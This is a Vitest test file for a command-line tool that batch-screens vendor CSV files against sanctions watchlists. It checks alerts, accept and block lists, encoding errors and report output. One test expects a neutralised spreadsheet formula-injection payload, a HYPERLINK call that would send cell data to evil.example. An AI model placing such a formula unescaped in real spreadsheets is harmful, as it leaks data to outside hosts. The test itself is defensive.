import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cli } from '../helpers/cliRun.js';
import { fixturePath } from '../helpers/sharedLists.js';
import { tempDir } from '../helpers/tempDir.js';
import { teamListWithOneBadEntry } from '../helpers/watchlistFile.js';

const batch = (...args: string[]) => cli('batch', ...args);

const tmp = tempDir('batch-cli-');
const vendors = fixturePath('batch/vendors-bom.csv');

describe('sanctions-screen batch', () => {
  it('exits 1 on alerts and prints a one-line summary on stderr', async () => {
    const r = await batch(vendors);
    expect(r.code).toBe(1);
    const summary = r.stderr.split('\n').at(-1)!;
    expect(summary).toMatch(
      /^batch: 10 rows in \d+\.\d s \([\d,]+ rows\/s\): 3 alerts, 0 blocked, 0 accepted, 0 errors, 1 empty, 6 clear; lists: default 2026-11-25 /,
    );
    expect(r.stderr).toContain('embedded demonstration list');
    expect(r.stdout).toMatch(
      /^ALERT {3}row 3 V-1002 "PMC Wagner" → \d\.\d{3} (ofac-sdn:22543|au-dfat:7209|uk-fcdo:RUS1090) .*\(\+\d more\)$/m,
    );
  });

  it('says which records of a list could not be loaded, on stderr, in its summary line and in the report', async () => {
    const list = teamListWithOneBadEntry('Company', 'Nordic Timber AB', 'Müller Logistik GmbH');
    const file = join(tmp, 'two.csv');
    writeFileSync(file, 'id,company\n1,Nordic Timber AB\n2,Müller Logistik GmbH\n');
    const out = join(tmp, 'partial.json');
    const r = await batch(file, '--list', `watchlist-json:${list}`, '--out', out);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`warning: Team block list (${list}): 1 of 2 records could not be loaded`);
    expect(r.stderr.split('\n').at(-1)).toContain('(1 records not loaded)');
    const report = JSON.parse(readFileSync(out, 'utf8')) as { audit: { lists: Array<{ rejected?: number }> } };
    expect(report.audit.lists[0]).toMatchObject({ entities: 1, rejected: 1 });
  });

  it('exits 0 when no row alerts', async () => {
    const file = join(tmp, 'innocent.csv');
    writeFileSync(file, 'id,company\n1,Nordic Timber AB\n2,Müller Logistik GmbH\n3,\n');
    const r = await batch(file);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/batch: 3 rows .*: 0 alerts, 0 blocked, 0 accepted, 0 errors, 1 empty, 2 clear;/);
  });

  it('exits 2 with a message naming the file and the missing column when there is no name column', async () => {
    const r = await batch(fixturePath('batch/vendors-no-name.csv'));
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/error \[E_INPUT\]: .*vendors-no-name\.csv: no name column found/);
  });

  it('exits 2 when a row could not be read, and says which', async () => {
    const r = await batch(fixturePath('batch/vendors-quotes-crlf.csv'));
    expect(r.code).toBe(2);
    expect(r.stdout).toContain('ERROR   row 7 row:7: line 7 is not valid CSV');
    expect(r.stderr).toMatch(/1 errors/);
  });

  it('writes an HTML report and a spreadsheet-safe CSV report', async () => {
    const html = join(tmp, 'report.html');
    expect((await batch(vendors, '--out', html)).code).toBe(1);
    const page = readFileSync(html, 'utf8');
    expect(page).toContain('Alerts, highest score first (3)');
    expect(page).toContain('ofac-sdn:22543');
    const csv = join(tmp, 'report.csv');
    const r = await batch(vendors, '--out', csv);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain(`report: ${csv}`);
    expect(readFileSync(csv, 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"`);
  });

  it('suppresses accepted matches and blocks the block list rows', async () => {
    const jsonl = join(tmp, 'first.jsonl');
    await batch(vendors, '--out', jsonl);
    const dexias = readFileSync(jsonl, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .find((l) => l.key === 'V-1005');
    const accept = join(tmp, 'accept.json');
    const entries = dexias.matches.map((m: { entityId: string; entityHash: string }) => ({
      key: 'V-1005',
      entityId: m.entityId,
      entityHash: m.entityHash,
      acceptedBy: 'a.kaya',
      acceptedAt: '2025-01-10',
      reason: 'lighting wholesaler in Izmir, not the designated company',
    }));
    writeFileSync(accept, JSON.stringify({ format: 'sanctions-screen/accept-list@1', entries }));
    const r = await batch(vendors, '--accept', accept, '--block', fixturePath('batch/block.json'));
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/: 2 alerts, 2 blocked, 1 accepted, 0 errors, 1 empty, 4 clear;/);
    expect(r.stdout).toContain(
      'BLOCKED row 9 V-1008 "Nordic Timber AB": internal investigation 2025-07, treat as listed',
    );
  });

  it('prints the same alerts with worker threads as without', async () => {
    const single = await batch(vendors, '--workers', '0');
    const workers = await batch(vendors, '--workers', '2');
    expect(workers.code).toBe(1);
    expect(workers.stdout).toBe(single.stdout);
  });

  it('builds an accept list from the CSV report: key, entity id and the list entry hash', async () => {
    const csv = join(tmp, 'to-review.csv');
    await batch(vendors, '--out', csv);
    const [header = [], ...cells] = parse(readFileSync(csv), { bom: true }) as string[][];
    const at = (name: string) => header.indexOf(name);
    const dexias = cells.filter((c) => c[at('key')] === 'V-1005');
    expect(dexias.length).toBeGreaterThan(0);
    const entries = dexias.map((c) => ({
      key: c[at('key')],
      entityId: c[at('entity_id')],
      entityHash: c[at('entity_hash')],
      acceptedBy: 'a.kaya',
      acceptedAt: '2025-01-10',
      reason: 'lighting wholesaler in Izmir',
    }));
    const accept = join(tmp, 'accept-from-csv.json');
    writeFileSync(accept, JSON.stringify({ entries }));
    const r = await batch(vendors, '--accept', accept);
    expect(r.stderr).toMatch(/: 2 alerts, 0 blocked, 1 accepted, /);
    expect(r.stdout).not.toContain('V-1005');
  });

  it('says how many blank lines it passed over, and reads the delimiter it is given', async () => {
    const file = join(tmp, 'caret.csv');
    writeFileSync(file, 'id^company\n1^Nordic Timber AB\n^\n2^PMC Wagner\n');
    const r = await batch(file, '--delimiter', '^');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/batch: 2 rows \(1 blank lines passed over\) in .*: 1 alerts, /);
    expect((await batch(file, '--delimiter', '^^')).stderr).toMatch(/--delimiter: "\^\^" is not one character/);
  });

  it('stops with exit 2 and a summary of the rows done when the file turns out to mix encodings', async () => {
    // More than the 1 MiB sniffed for the encoding is UTF-8; then a Latin-1 "é".
    const padding = 'x'.repeat(200);
    const good = Array.from({ length: 6000 }, (_, i) => `${i},Vendor ${i} GmbH,${padding}\n`).join('');
    const file = join(tmp, 'mixed.csv');
    writeFileSync(
      file,
      Buffer.concat([Buffer.from(`id,name,note\n${good}`), Buffer.from('9999,Soci\xe9t\xe9 X,\n', 'latin1')]),
    );
    const r = await batch(file, '--workers', '0');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^batch STOPPED: [\d,]+ rows in .*: 0 alerts, /m);
    expect(r.stderr).toMatch(/error \[E_INPUT\]: .*mixed\.csv: invalid UTF-8 after byte \d+.*the file mixes encodings/);
  });

  it('refuses a threshold outside 0–1 and an unknown report extension', async () => {
    expect((await batch(vendors, '--threshold', '80')).stderr).toMatch(
      /--threshold: "80" is not a score between 0 and 1/,
    );
    expect((await batch(vendors, '--out', join(tmp, 'r.pdf'))).code).toBe(2);
  });
});
